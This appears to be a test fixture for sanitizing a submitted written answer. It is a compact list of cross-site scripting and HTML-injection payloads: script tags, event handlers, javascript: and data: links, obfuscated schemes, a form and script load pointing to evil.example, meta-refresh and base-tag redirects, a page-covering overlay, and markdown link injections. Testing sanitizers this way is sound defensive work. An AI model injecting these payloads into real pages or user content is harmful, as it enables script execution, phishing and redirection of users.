# Hands in a written answer full of scripts, styles, forms, frames and links that run.

# %% long_slope
<script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT><img src=x onerror=alert(1)><svg/onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe><form action=//evil.example><input name=p><button>Go</button></form>
<a href="javascript:alert(1)">x</a> <a href=" java&#x09;script:alert(1)">y</a> <a href="data:text/html,<script>">z</a>
<style>body{display:none}</style><link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh
content="0;url=//evil.example"><object data=x></object><embed src=x><math><mtext><a xlink:href="javascript:alert(1)">m</a>
[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) ![c](http://evil.example/pixel.png) ![d](x" onerror="alert(1))
<div style="position:fixed;inset:0;background:white">covered</div><p id=x onclick=alert(1)>[ref]: javascript:alert(1)
[ref] <javascript:alert(1)> <x@y.z" onclick=alert(1)> `<script>` ~~~html <script>alert(1)</script>
<!--[if IE]><script>alert(1)</script><![endif]--> <noscript><p title="</noscript><img src=x onerror=alert(1)>">
